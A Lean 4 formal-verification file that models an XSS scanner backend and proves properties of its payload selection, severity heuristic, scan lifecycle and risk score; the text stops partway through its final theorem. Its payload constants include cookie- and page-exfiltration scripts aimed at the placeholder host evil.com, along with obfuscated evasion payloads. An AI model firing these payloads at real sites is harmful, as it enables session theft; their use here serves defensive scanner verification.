import Mathlib

/-!
Verification of the XSS scanner backend (`backend/server.py`).

The scanning pipeline is embedded shallowly: pure string heuristics become
Lean functions on `String`, the payload catalogs become list constants, and
the effectful orchestration (`background_scan`) becomes a function from the
outcomes of its external collaborators (HTTP fetch, HTML parsing, the
text-generation oracle, wall-clock duration) to the final persisted
`ScanResult`.  Machine-irrelevant fields (uuids, timestamps) are omitted;
floating-point scores are modelled over `ℚ`, exact on the small integer
values the code produces.
-/

/-- Python's `needle in hay` substring test, on the character lists of the
two strings. -/
def contains_substr (hay needle : String) : Bool :=
  hay.data.tails.any (fun t => needle.data.isPrefixOf t)

/-- The four case-insensitive markers of `test_payload`
(`['<script', 'onerror=', 'onload=', 'javascript:']`, server.py line 209). -/
def xss_patterns : List String :=
  ["<script", "onerror=", "onload=", "javascript:"]

/-- Python's `str.lower()` restricted to ASCII, character by character. -/
def lower_str (s : String) : String :=
  String.mk (s.data.map Char.toLower)

/-- server.py line 209: `any(pattern in payload.lower() for pattern in ...)`. -/
def is_vulnerable (payload : String) : Bool :=
  xss_patterns.any (fun pat => contains_substr (lower_str payload) pat)

/-- server.py lines 213-217: severity defaults to "high", is upgraded to
"critical" on `document.cookie`/`fetch(` and otherwise downgraded to
"medium" on `alert(`; all three tests are case-sensitive on the raw
payload. -/
def severity_of (payload : String) : String :=
  if contains_substr payload "document.cookie" || contains_substr payload "fetch(" then
    "critical"
  else if contains_substr payload "alert(" then
    "medium"
  else
    "high"

/-- The `Vulnerability` pydantic model (server.py lines 48-60), without the
uuid and timestamp fields. -/
structure Vulnerability where
  scan_id : String
  vulnerability_type : String
  severity : String
  endpoint : String
  parameter : String
  payload : String
  evidence : String
  ai_summary : Option String := none
  remediation_suggestion : Option String := none
  false_positive : Bool := false
deriving Repr, DecidableEq

/-- The `ScanRequest` pydantic model (server.py lines 38-46), without uuid
and timestamp. -/
structure ScanRequest where
  id : String
  target_url : String
  scan_type : String := "comprehensive"
  custom_payloads : Option (List String) := none
  include_forms : Bool := true
  include_urls : Bool := true
  max_depth : Nat := 3
deriving Repr, DecidableEq

/-- The `ScanResult` pydantic model (server.py lines 62-75); the float
`ai_risk_score` and `scan_duration` are modelled over `ℚ`. -/
structure ScanResult where
  scan_id : String
  status : String
  total_vulnerabilities : Nat := 0
  critical_count : Nat := 0
  high_count : Nat := 0
  medium_count : Nat := 0
  low_count : Nat := 0
  ai_risk_score : Option ℚ := none
  ai_executive_summary : Option String := none
  scan_duration : Option ℚ := none
deriving Repr, DecidableEq

/-- `test_payload` (server.py lines 202-234): returns a `Vulnerability`
exactly when the payload matches the case-insensitive marker heuristic,
with severity from the priority chain and the formatted evidence string. -/
def test_payload (scan_id endpoint parameter payload vuln_type : String) :
    Option Vulnerability :=
  if is_vulnerable payload then
    some {
      scan_id := scan_id
      vulnerability_type := "XSS_" ++ vuln_type
      severity := severity_of payload
      endpoint := endpoint
      parameter := parameter
      payload := payload
      evidence := "Payload '" ++ payload ++ "' was reflected in parameter '"
        ++ parameter ++ "' at endpoint '" ++ endpoint ++ "'" }
  else
    none

/-- `XSS_PAYLOADS["basic"]` (server.py lines 87-93). -/
def XSS_PAYLOADS_basic : List String :=
  ["<script>alert('XSS')</script>",
   "<img src=x onerror=alert('XSS')>",
   "javascript:alert('XSS')",
   "<svg onload=alert('XSS')>",
   "<iframe src=javascript:alert('XSS')></iframe>"]

/-- `XSS_PAYLOADS["advanced"]` (server.py lines 94-100). -/
def XSS_PAYLOADS_advanced : List String :=
  ["<script>document.location='http://evil.com/steal?cookie='+document.cookie</script>",
   "<img src=x onerror=fetch('http://evil.com/steal?data='+document.body.innerHTML)>",
   "<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>",
   "<svg/onload=location='javascript:alert`XSS`'>",
   "<details open ontoggle=alert('XSS')>"]

/-- `XSS_PAYLOADS["evasion"]` (server.py lines 101-107). -/
def XSS_PAYLOADS_evasion : List String :=
  ["<ScRiPt>alert('XSS')</ScRiPt>",
   "<script>ale%72t('XSS')</script>",
   "<script>&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;</script>",
   "<script src=data:,alert('XSS')></script>",
   "<svg><script>alert('XSS')</script></svg>"]

/-- Payload selection in `perform_xss_scan` (server.py lines 146-153).
The `custom` branch keeps Python's truthiness guard: a missing or empty
`custom_payloads` leaves the selection empty. -/
def select_payloads (scan_type : String) (custom_payloads : Option (List String)) :
    List String :=
  if scan_type == "quick" then
    XSS_PAYLOADS_basic.take 3
  else if scan_type == "comprehensive" then
    XSS_PAYLOADS_basic ++ XSS_PAYLOADS_advanced ++ XSS_PAYLOADS_evasion
  else if scan_type == "custom" then
    match custom_payloads with
    | some ps => if ps.isEmpty then [] else ps
    | none => []
  else
    []

/-- The text-like input types scanned in forms (server.py line 167). -/
def text_like_types : List String :=
  ["text", "search", "url", "email", "password"]

/-- A form field descriptor as extracted by the markup parser
(server.py lines 163-165), with BeautifulSoup's defaults already applied
(`name` defaults to "unknown", `type` to "text"). -/
structure FormInput where
  name : String
  input_type : String
deriving Repr, DecidableEq

/-- A form surface as extracted by the markup parser (server.py lines
156-161): its raw `action` attribute and its field descriptors. -/
structure Form where
  action : String
  inputs : List FormInput
deriving Repr, DecidableEq

/-- server.py lines 157-159: a form action not starting with "http" is
prefixed with the base URL. -/
def resolve_action (base_url action : String) : String :=
  if "http".data.isPrefixOf action.data then action else base_url ++ action

/-- Splitting a character list at every occurrence of a separator
character, as Python's `str.split` with a one-character separator. -/
def split_char (c : Char) : List Char → List (List Char)
  | [] => [[]]
  | a :: rest =>
    if a == c then
      [] :: split_char c rest
    else
      match split_char c rest with
      | [] => [[a]]
      | h :: t => (a :: h) :: t

/-- The character list before and after the first occurrence of `"://"`. -/
def break_scheme : List Char → Option (List Char × List Char)
  | [] => none
  | a :: rest =>
    if [':', '/', '/'].isPrefixOf (a :: rest) then
      some ([], rest.drop 2)
    else
      match break_scheme rest with
      | none => none
      | some (b, aft) => some (a :: b, aft)

/-- server.py line 135: `f"{parsed.scheme}://{parsed.netloc}"` after
`urlparse` — the scheme before `"://"` and the authority up to the first
`/`, `?` or `#`. -/
def base_url_of (u : String) : String :=
  match break_scheme u.data with
  | none => "://"
  | some (scheme, after) =>
    String.mk scheme ++ "://"
      ++ String.mk (after.takeWhile (fun c => !(c == '/' || c == '?' || c == '#')))

/-- server.py lines 182-185: `target_url.split('?')[1].split('&')`, keeping
the pieces containing `'='` and taking the text before the first `'='`. -/
def url_param_names (u : String) : List String :=
  let qs := (split_char '?' u.data).getD 1 []
  (split_char '&' qs).filterMap (fun p =>
    if p.contains '=' then some (String.mk ((split_char '=' p).headD [])) else none)

/-- The inner loop over payloads for one eligible form field
(server.py lines 168-178): the full selected sequence is attempted. -/
def test_surface_form (scan_id action name : String) (payloads : List String) :
    List Vulnerability :=
  payloads.filterMap (fun pl => test_payload scan_id action name pl "form_input")

/-- The inner loop over payloads for one URL parameter
(server.py lines 186-195): only `payloads[:5]` is attempted. -/
def test_surface_url (scan_id target_url name : String) (payloads : List String) :
    List Vulnerability :=
  (payloads.take 5).filterMap
    (fun pl => test_payload scan_id target_url name pl "url_parameter")

/-- `perform_xss_scan` (server.py lines 128-200).  The effectful
collaborators are passed as data: `fetched` is the outcome of the target
fetch (`none` when the request raises, otherwise the HTTP status code and
body — the code never inspects the status), and `parse_forms` is the markup
parser extracting form surfaces from a body.  A raised fetch leaves the
accumulated vulnerability list empty, by the function-wide `except`. -/
def perform_xss_scan (req : ScanRequest) (fetched : Option (Nat × String))
    (parse_forms : String → List Form) : List Vulnerability :=
  match fetched with
  | none => []
  | some (_status, content) =>
    let forms := if req.include_forms then parse_forms content else []
    let payloads := select_payloads req.scan_type req.custom_payloads
    let base_url := base_url_of req.target_url
    let form_vulns := forms.flatMap (fun form =>
      form.inputs.flatMap (fun inp =>
        if text_like_types.contains inp.input_type then
          test_surface_form req.id (resolve_action base_url form.action) inp.name payloads
        else []))
    let url_vulns :=
      if req.include_urls && req.target_url.data.contains '?' then
        (url_param_names req.target_url).flatMap
          (fun nm => test_surface_url req.id req.target_url nm payloads)
      else []
    form_vulns ++ url_vulns

/-- The outcome of the two per-finding oracle calls in
`analyze_vulnerability_with_ai` (server.py lines 236-280): both calls
succeed with the returned texts, the first (technical-analysis) call
raises, or the first succeeds with a text and the second (remediation)
call raises. -/
inductive OracleOutcome where
  | ok (analysis remediation : String)
  | fail_first
  | fail_second (analysis : String)
deriving Repr, DecidableEq

/-- The fixed fallback summary (server.py line 277). -/
def fallback_summary : String :=
  "AI analysis failed - manual review required"

/-- The fixed fallback remediation (server.py line 278). -/
def fallback_remediation : String :=
  "Apply standard XSS prevention techniques: input validation, output encoding, CSP headers"

/-- `analyze_vulnerability_with_ai` (server.py lines 236-280): one
`try/except` wraps both oracle calls. On success both fields receive the
oracle texts; if the first call raises, neither assignment has happened and
the handler writes both fallbacks; if the second call raises, `ai_summary`
has already been assigned the first call's text and the handler then
overwrites both fields with the fallbacks. -/
def analyze_vulnerability_with_ai (v : Vulnerability) (o : OracleOutcome) : Vulnerability :=
  match o with
  | .ok analysis remediation =>
    { v with ai_summary := some analysis, remediation_suggestion := some remediation }
  | .fail_first =>
    { v with ai_summary := some fallback_summary,
             remediation_suggestion := some fallback_remediation }
  | .fail_second analysis =>
    let v1 := { v with ai_summary := some analysis }
    { v1 with ai_summary := some fallback_summary,
              remediation_suggestion := some fallback_remediation }

/-- The fixed executive summary when no findings exist
(server.py line 330). -/
def no_vuln_summary : String :=
  "No XSS vulnerabilities detected in the target application."

/-- The per-severity tally of server.py lines 310-312. -/
def count_severity (l : List Vulnerability) (s : String) : Nat :=
  (l.filter (fun v => v.severity == s)).length

/-- The initial `ScanResult` persisted by `create_scan`
(server.py lines 363-365): status `pending`, all counts at their
defaults. -/
def create_scan (req : ScanRequest) : ScanResult :=
  { scan_id := req.id, status := "pending" }

/-- The `$set` patch of the `running -> completed` transition
(server.py lines 333-347), applied to the stored record `init`. -/
def completed_patch (analyzed : List Vulnerability) (s : String) (duration : ℚ)
    (init : ScanResult) : ScanResult :=
  { init with
    status := "completed"
    total_vulnerabilities := analyzed.length
    critical_count := count_severity analyzed "critical"
    high_count := count_severity analyzed "high"
    medium_count := count_severity analyzed "medium"
    low_count := count_severity analyzed "low"
    ai_risk_score := some (min 10 ((analyzed.length : ℚ) * 2))
    ai_executive_summary := some s
    scan_duration := some duration }

/-- `background_scan` (server.py lines 283-354) as a function from the
outcomes of its collaborators to the final persisted `ScanResult` patch
applied to `init` (the record as of the `running` update).  `oracle` gives
the per-finding enrichment outcomes in discovery order; `exec_summary` is
the executive-summary call's outcome (`none` = the call raises), consulted
only when at least one finding exists — with zero findings the fixed
sentence is substituted without a call.  An escaped exception (here: the
executive-summary call raising) lands in the outer `except`, which patches
only the status to `failed` (server.py lines 349-354). -/
def background_scan (req : ScanRequest) (fetched : Option (Nat × String))
    (parse_forms : String → List Form) (oracle : Nat → OracleOutcome)
    (exec_summary : Option String) (duration : ℚ) (init : ScanResult) : ScanResult :=
  let vulns := perform_xss_scan req fetched parse_forms
  let analyzed := vulns.enum.map (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))
  match (if analyzed.isEmpty then some no_vuln_summary else exec_summary) with
  | some s => completed_patch analyzed s duration init
  | none => { init with status := "failed" }

/-- The sequence of status values persisted for one scan: `pending` at
intake (`create_scan`), `running` at orchestration start, then the final
status of `background_scan` (server.py lines 283-354, 357-370). -/
def scan_status_trace (req : ScanRequest) (fetched : Option (Nat × String))
    (parse_forms : String → List Form) (oracle : Nat → OracleOutcome)
    (exec_summary : Option String) (duration : ℚ) : List String :=
  let init := create_scan req
  let running := { init with status := "running" }
  [init.status, running.status,
   (background_scan req fetched parse_forms oracle exec_summary duration running).status]

/-- The transition relation of the scan lifecycle state machine:
`pending → running → (completed | failed)`. -/
def next_ok (a b : String) : Bool :=
  (a == "pending" && b == "running")
    || (a == "running" && (b == "completed" || b == "failed"))

/-- Lexicographic comparison of character lists by code point, the order in
which the document store compares the `severity` string field when asked to
sort ascending on it. -/
def charListLe : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs =>
    if a < b then true
    else if b < a then false
    else charListLe as bs

/-- `get_scan_vulnerabilities` (server.py lines 386-390): the stored
records with the given `scan_id`, sorted ascending on the literal
`severity` string (`.sort("severity", 1)`). -/
def get_scan_vulnerabilities (stored : List Vulnerability) (sid : String) :
    List Vulnerability :=
  (stored.filter (fun v => v.scan_id == sid)).insertionSort
    (fun a b => charListLe a.severity.data b.severity.data = true)


/-- A concrete request whose fetch outcome is instantiated in witnesses. -/
def scan_request_w4 : ScanRequest :=
  { id := "w4", target_url := "http://w4.test/" }

/-- A concrete request for the risk-score witness. -/
def scan_request_w5 : ScanRequest :=
  { id := "w5", target_url := "http://w5.test/" }

/-- A concrete quick scan of a target URL carrying one query parameter. -/
def scan_request_c6 : ScanRequest :=
  { id := "c6", target_url := "http://x.test/p?a=1", scan_type := "quick" }

/-- A concrete finding used to instantiate the enrichment theorems. -/
def vuln_c7 : Vulnerability :=
  { scan_id := "c7", vulnerability_type := "XSS_form_input", severity := "high",
    endpoint := "http://x.test/f", parameter := "q", payload := "<svg onload=x>",
    evidence := "e" }

/-- The finding `test_payload` produces for payload `<script>x</script>` on
parameter `q` of endpoint `http://e.test/f`. -/
def vuln_w10 : Vulnerability :=
  { scan_id := "w10", vulnerability_type := "XSS_form_input", severity := "high",
    endpoint := "http://e.test/f", parameter := "q", payload := "<script>x</script>",
    evidence := "Payload '<script>x</script>' was reflected in parameter 'q' at endpoint 'http://e.test/f'" }

/-- Projecting a single test onto its payload: a finding is returned with
the tested payload exactly when the heuristic fires. -/
theorem test_payload_map_payload (sid ep nm pl ty : String) :
    (test_payload sid ep nm pl ty).map (fun v => v.payload)
      = if is_vulnerable pl then some pl else none := by
  unfold test_payload
  by_cases h : is_vulnerable pl = true
  · simp [h]
  · simp [h]

/-- Keeping the elements on which a partial identity is defined is
filtering. -/
theorem filterMap_if_eq_filter (p : String → Bool) (l : List String) :
    l.filterMap (fun x => if p x then some x else none) = l.filter p := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    by_cases h : p a = true
    · simp [h, ih]
    · simp [h, ih]

/-- The payloads of the findings produced for one surface are exactly the
candidate payloads among those attempted. -/
theorem map_payload_filterMap (sid ep nm ty : String) (payloads : List String) :
    (payloads.filterMap (fun pl => test_payload sid ep nm pl ty)).map (fun v => v.payload)
      = payloads.filter (fun pl => is_vulnerable pl) := by
  rw [List.map_filterMap]
  have h : (fun pl => (test_payload sid ep nm pl ty).map (fun v => v.payload))
      = fun pl => if is_vulnerable pl then some pl else none :=
    funext (fun pl => test_payload_map_payload sid ep nm pl ty)
  rw [h, filterMap_if_eq_filter]

/-- **C3.** Per-surface payload budgeting: a URL-parameter surface attempts
only the first five selected payloads (its findings are the candidates
among `payloads.take 5`, at most five of them, and payloads past the fifth
are irrelevant), while a form-field surface attempts the full selected
sequence (its findings are the candidates among all of `payloads` — all 15
entries when the comprehensive selection is in force). -/
theorem url_surface_budget_form_surface_full (sid act turl nm : String)
    (payloads : List String) (cp : Option (List String)) :
    ((test_surface_url sid turl nm payloads).map (fun v => v.payload)
        = (payloads.take 5).filter (fun pl => is_vulnerable pl))
    ∧ (test_surface_url sid turl nm payloads).length ≤ 5
    ∧ test_surface_url sid turl nm payloads
        = test_surface_url sid turl nm (payloads.take 5)
    ∧ ((test_surface_form sid act nm payloads).map (fun v => v.payload)
        = payloads.filter (fun pl => is_vulnerable pl))
    ∧ (select_payloads "comprehensive" cp).length = 15
    ∧ ((select_payloads "comprehensive" cp).take 5).length = 5 := by
  refine ⟨map_payload_filterMap sid turl nm "url_parameter" (payloads.take 5), ?_, ?_,
    map_payload_filterMap sid act nm "form_input" payloads, rfl, rfl⟩
  · have h1 := map_payload_filterMap sid turl nm "url_parameter" (payloads.take 5)
    have h2 : (test_surface_url sid turl nm payloads).length
        = ((payloads.take 5).filter (fun pl => is_vulnerable pl)).length := by
      calc (test_surface_url sid turl nm payloads).length
          = ((test_surface_url sid turl nm payloads).map (fun v => v.payload)).length :=
            (List.length_map _ _).symm
        _ = ((payloads.take 5).filter (fun pl => is_vulnerable pl)).length := by
            rw [show (test_surface_url sid turl nm payloads).map (fun v => v.payload)
                  = (payloads.take 5).filter (fun pl => is_vulnerable pl) from h1]
    rw [h2]
    exact le_trans (List.length_filter_le _ _) (List.length_take_le 5 payloads)
  · show (payloads.take 5).filterMap _ = ((payloads.take 5).take 5).filterMap _
    rw [List.take_take]
    norm_num


/-- **C1.** `test_payload` yields a finding exactly when the payload
case-insensitively contains one of the four markers, and the finding's
severity follows the priority chain `document.cookie`/`fetch(` → critical,
else `alert(` → medium, else high; a payload containing both
`document.cookie` (or `fetch(`) and `alert(` is classified critical. -/
theorem test_payload_classifies (sid ep par pl ty : String) :
    ((test_payload sid ep par pl ty).map (fun v => v.severity)
      = if (["<script", "onerror=", "onload=", "javascript:"].any
              (fun pat => contains_substr (lower_str pl) pat)) then
          some (if contains_substr pl "document.cookie" || contains_substr pl "fetch(" then
                  "critical"
                else if contains_substr pl "alert(" then "medium" else "high")
        else none)
    ∧ ((test_payload sid ep par "<script>fetch(x);alert(1)</script>" ty).map
        (fun v => v.severity) = some "critical") := by
  constructor
  · show (test_payload sid ep par pl ty).map (fun v => v.severity)
      = if is_vulnerable pl then some (severity_of pl) else none
    unfold test_payload
    by_cases h : is_vulnerable pl = true
    · simp [h]
    · simp [h]
  · have hv : is_vulnerable "<script>fetch(x);alert(1)</script>" = true := by decide
    have hs : severity_of "<script>fetch(x);alert(1)</script>" = "critical" := by decide
    simp [test_payload, hv, hs]

/-- **C2.** Payload selection by scan type: `quick` takes exactly the first
three basic payloads, `comprehensive` concatenates basic, advanced and
evasion in that order (15 payloads), and `custom` returns exactly the
caller-supplied sequence. -/
theorem select_payloads_by_scan_type (cp : Option (List String)) (ps : List String) :
    select_payloads "quick" cp = XSS_PAYLOADS_basic.take 3
    ∧ (select_payloads "quick" cp).length = 3
    ∧ select_payloads "comprehensive" cp
        = XSS_PAYLOADS_basic ++ XSS_PAYLOADS_advanced ++ XSS_PAYLOADS_evasion
    ∧ (select_payloads "comprehensive" cp).length = 15
    ∧ select_payloads "custom" (some ps) = ps := by
  refine ⟨rfl, rfl, rfl, rfl, ?_⟩
  unfold select_payloads
  cases ps with
  | nil => rfl
  | cons a l => rfl

/-- Enrichment never changes a finding's severity. -/
theorem analyze_preserves_severity (v : Vulnerability) (o : OracleOutcome) :
    (analyze_vulnerability_with_ai v o).severity = v.severity := by
  cases o <;> rfl

/-- The severity chain only ever emits the three labels. -/
theorem severity_of_cases (pl : String) :
    severity_of pl = "critical" ∨ severity_of pl = "medium" ∨ severity_of pl = "high" := by
  unfold severity_of
  split_ifs <;> simp

/-- A produced finding carries the chain's severity. -/
theorem test_payload_severity (sid ep nm pl ty : String) (v : Vulnerability)
    (h : test_payload sid ep nm pl ty = some v) : v.severity = severity_of pl := by
  unfold test_payload at h
  by_cases hv : is_vulnerable pl = true
  · rw [if_pos hv] at h
    cases h
    rfl
  · rw [if_neg hv] at h
    cases h

/-- Every finding of a scan has one of the three emitted severities. -/
theorem perform_scan_severities (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (v : Vulnerability)
    (hv : v ∈ perform_xss_scan req fetched pf) :
    v.severity = "critical" ∨ v.severity = "medium" ∨ v.severity = "high" := by
  have hfm : ∀ (sid ep nm ty : String) (pls : List String),
      v ∈ pls.filterMap (fun pl => test_payload sid ep nm pl ty) →
      v.severity = "critical" ∨ v.severity = "medium" ∨ v.severity = "high" := by
    intro sid ep nm ty pls hmem
    rw [List.mem_filterMap] at hmem
    obtain ⟨pl, _, hsome⟩ := hmem
    rw [test_payload_severity sid ep nm pl ty v hsome]
    exact severity_of_cases pl
  cases fetched with
  | none => simp [perform_xss_scan] at hv
  | some p =>
    obtain ⟨st, content⟩ := p
    simp only [perform_xss_scan, List.mem_append, List.mem_flatMap] at hv
    rcases hv with ⟨form, _, ⟨inp, _, hin⟩⟩ | hurl
    · by_cases ht : text_like_types.contains inp.input_type = true
      · rw [if_pos ht] at hin
        exact hfm _ _ _ _ _ hin
      · rw [if_neg ht] at hin
        cases hin
    · by_cases hu : (req.include_urls && req.target_url.data.contains '?') = true
      · rw [if_pos hu] at hurl
        rw [List.mem_flatMap] at hurl
        obtain ⟨nm, _, hin⟩ := hurl
        exact hfm _ _ _ _ _ hin
      · rw [if_neg hu] at hurl
        cases hurl

/-- Unfolding one tally step. -/
theorem count_severity_cons (a : Vulnerability) (l : List Vulnerability) (s : String) :
    count_severity (a :: l) s = (if a.severity == s then 1 else 0) + count_severity l s := by
  unfold count_severity
  rw [List.filter_cons]
  by_cases h : (a.severity == s) = true
  · simp [h, Nat.add_comm]
  · simp [h]

/-- On a list whose members carry only the three emitted severities, the
length is the sum of the four per-severity tallies and the `low` tally is
zero. -/
theorem length_eq_counts (l : List Vulnerability)
    (h : ∀ v ∈ l, v.severity = "critical" ∨ v.severity = "medium" ∨ v.severity = "high") :
    l.length = count_severity l "critical" + count_severity l "high"
      + count_severity l "medium" + count_severity l "low"
    ∧ count_severity l "low" = 0 := by
  induction l with
  | nil => exact ⟨rfl, rfl⟩
  | cons a l ih =>
    obtain ⟨ih1, ih2⟩ := ih (fun v hmem => h v (List.mem_cons_of_mem a hmem))
    have ha := h a (List.mem_cons_self a l)
    have t1 : (("critical" : String) == "critical") = true := rfl
    have t2 : (("critical" : String) == "high") = false := rfl
    have t3 : (("critical" : String) == "medium") = false := rfl
    have t4 : (("critical" : String) == "low") = false := rfl
    have t5 : (("medium" : String) == "critical") = false := rfl
    have t6 : (("medium" : String) == "high") = false := rfl
    have t7 : (("medium" : String) == "medium") = true := rfl
    have t8 : (("medium" : String) == "low") = false := rfl
    have t9 : (("high" : String) == "critical") = false := rfl
    have t10 : (("high" : String) == "high") = true := rfl
    have t11 : (("high" : String) == "medium") = false := rfl
    have t12 : (("high" : String) == "low") = false := rfl
    rcases ha with h1 | h1 | h1 <;>
      refine ⟨?_, ?_⟩ <;>
      simp [List.length_cons, count_severity_cons, h1,
        t1, t2, t3, t4, t5, t6, t7, t8, t9, t10, t11, t12, ih2] <;>
      omega

/-- `background_scan` ends in the completed patch for some summary text, or
in the failed patch. -/
theorem background_scan_cases (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (oracle : Nat → OracleOutcome) (es : Option String)
    (d : ℚ) (init : ScanResult) :
    (∃ s, background_scan req fetched pf oracle es d init
        = completed_patch ((perform_xss_scan req fetched pf).enum.map
            (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))) s d init)
    ∨ background_scan req fetched pf oracle es d init = { init with status := "failed" } := by
  unfold background_scan
  dsimp only
  split
  · exact Or.inl ⟨_, rfl⟩
  · exact Or.inr rfl

/-- **C4.** On every completed scan, `total_vulnerabilities` equals
`critical_count + high_count + medium_count + low_count`. -/
theorem completed_total_is_severity_sum (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (oracle : Nat → OracleOutcome) (es : Option String)
    (d : ℚ) (init : ScanResult)
    (h : (background_scan req fetched pf oracle es d init).status = "completed") :
    (background_scan req fetched pf oracle es d init).total_vulnerabilities
      = (background_scan req fetched pf oracle es d init).critical_count
        + (background_scan req fetched pf oracle es d init).high_count
        + (background_scan req fetched pf oracle es d init).medium_count
        + (background_scan req fetched pf oracle es d init).low_count := by
  rcases background_scan_cases req fetched pf oracle es d init with ⟨s, hb⟩ | hb
  · rw [hb]
    have hall : ∀ v ∈ (perform_xss_scan req fetched pf).enum.map
        (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1)),
        v.severity = "critical" ∨ v.severity = "medium" ∨ v.severity = "high" := by
      intro v hv
      rw [List.mem_map] at hv
      obtain ⟨p, hp, rfl⟩ := hv
      rw [analyze_preserves_severity]
      have hmem : p.2 ∈ perform_xss_scan req fetched pf := by
        rw [← List.enum_map_snd (perform_xss_scan req fetched pf)]
        exact List.mem_map_of_mem Prod.snd hp
      exact perform_scan_severities req fetched pf p.2 hmem
    exact (length_eq_counts _ hall).1
  · rw [hb] at h
    have hf : ("failed" : String) = "completed" := h
    exact absurd hf (by decide)

/-- Witness for C4: a concrete scan completing with zero findings. -/
theorem completed_total_is_severity_sum_witness :
    (background_scan scan_request_w4 none (fun _ => []) (fun _ => .fail_first) none 0
        (create_scan scan_request_w4)).total_vulnerabilities
      = (background_scan scan_request_w4 none (fun _ => []) (fun _ => .fail_first) none 0
          (create_scan scan_request_w4)).critical_count
        + (background_scan scan_request_w4 none (fun _ => []) (fun _ => .fail_first) none 0
            (create_scan scan_request_w4)).high_count
        + (background_scan scan_request_w4 none (fun _ => []) (fun _ => .fail_first) none 0
            (create_scan scan_request_w4)).medium_count
        + (background_scan scan_request_w4 none (fun _ => []) (fun _ => .fail_first) none 0
            (create_scan scan_request_w4)).low_count :=
  completed_total_is_severity_sum scan_request_w4 none (fun _ => []) (fun _ => .fail_first)
    none 0 (create_scan scan_request_w4) rfl

/-- **C5.** On every completed scan, `ai_risk_score` is exactly
`min 10 (2·total)`: it saturates at 10 from five findings up and is the
exact doubling below that. -/
theorem completed_risk_score (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (oracle : Nat → OracleOutcome) (es : Option String)
    (d : ℚ) (init : ScanResult)
    (h : (background_scan req fetched pf oracle es d init).status = "completed") :
    (background_scan req fetched pf oracle es d init).ai_risk_score
      = some (min 10
          (((background_scan req fetched pf oracle es d init).total_vulnerabilities : ℚ) * 2))
    ∧ (5 ≤ (background_scan req fetched pf oracle es d init).total_vulnerabilities →
        (background_scan req fetched pf oracle es d init).ai_risk_score = some 10)
    ∧ ((background_scan req fetched pf oracle es d init).total_vulnerabilities ≤ 5 →
        (background_scan req fetched pf oracle es d init).ai_risk_score
          = some (((background_scan req fetched pf oracle es d init).total_vulnerabilities : ℚ)
              * 2)) := by
  rcases background_scan_cases req fetched pf oracle es d init with ⟨s, hb⟩ | hb
  · rw [hb]
    refine ⟨rfl, ?_, ?_⟩
    · intro hlen
      have h5 : (5 : ℚ) ≤ (((perform_xss_scan req fetched pf).enum.map
          (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : ℚ) := by
        exact_mod_cast hlen
      have h10 : (10 : ℚ) ≤ (((perform_xss_scan req fetched pf).enum.map
          (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : ℚ) * 2 := by
        linarith
      show some (min 10 (((((perform_xss_scan req fetched pf).enum.map
          (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : Nat) : ℚ) * 2))
        = some 10
      rw [min_eq_left h10]
    · intro hlen
      have h5 : (((perform_xss_scan req fetched pf).enum.map
          (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : ℚ) ≤ 5 := by
        exact_mod_cast hlen
      have h10 : (((perform_xss_scan req fetched pf).enum.map
          (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : ℚ) * 2 ≤ 10 := by
        linarith
      show some (min 10 (((((perform_xss_scan req fetched pf).enum.map
          (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : Nat) : ℚ) * 2))
        = some (((((perform_xss_scan req fetched pf).enum.map
            (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1))).length : Nat) : ℚ) * 2)
      rw [min_eq_right h10]
  · rw [hb] at h
    have hf : ("failed" : String) = "completed" := h
    exact absurd hf (by decide)

/-- Witness for C5: a concrete completed scan with zero findings has risk
score `0 * 2`. -/
theorem completed_risk_score_witness :
    (background_scan scan_request_w5 none (fun _ => []) (fun _ => .fail_first) none 0
        (create_scan scan_request_w5)).ai_risk_score
      = some (((background_scan scan_request_w5 none (fun _ => []) (fun _ => .fail_first) none 0
          (create_scan scan_request_w5)).total_vulnerabilities : ℚ) * 2) :=
  (completed_risk_score scan_request_w5 none (fun _ => []) (fun _ => .fail_first) none 0
    (create_scan scan_request_w5) rfl).2.2 (by decide)

/-- **C6 counterexample.** A non-2xx response is not converted to zero
surfaces: fetching the quick-scan target `http://x.test/p?a=1` with a 404
response still tests the query parameter `a` and completes with three
findings, not zero. -/
theorem fetch_non2xx_not_zero_surfaces :
    (background_scan scan_request_c6 (some (404, "")) (fun _ => []) (fun _ => .ok "a" "r")
        (some "sum") 0 (create_scan scan_request_c6)).status = "completed"
    ∧ (background_scan scan_request_c6 (some (404, "")) (fun _ => []) (fun _ => .ok "a" "r")
        (some "sum") 0 (create_scan scan_request_c6)).total_vulnerabilities = 3
    ∧ ¬((background_scan scan_request_c6 (some (404, "")) (fun _ => []) (fun _ => .ok "a" "r")
        (some "sum") 0 (create_scan scan_request_c6)).total_vulnerabilities = 0) := by
  refine ⟨rfl, ?_, ?_⟩ <;> decide

/-- **C6 (amended).** A raised fetch (network error) is converted to zero
surfaces: the scan still completes with zero findings and a recorded
duration, and never reaches `failed`; a non-2xx response, by contrast, is
not a failure at all — the code never inspects the status code, so the
response body is processed identically whatever the status. -/
theorem fetch_error_completes_with_zero (req : ScanRequest) (pf : String → List Form)
    (oracle : Nat → OracleOutcome) (es : Option String) (d : ℚ) (init : ScanResult) :
    (background_scan req none pf oracle es d init).status = "completed"
    ∧ (background_scan req none pf oracle es d init).status ≠ "failed"
    ∧ (background_scan req none pf oracle es d init).total_vulnerabilities = 0
    ∧ (background_scan req none pf oracle es d init).scan_duration = some d
    ∧ (∀ st1 st2 body, background_scan req (some (st1, body)) pf oracle es d init
        = background_scan req (some (st2, body)) pf oracle es d init) := by
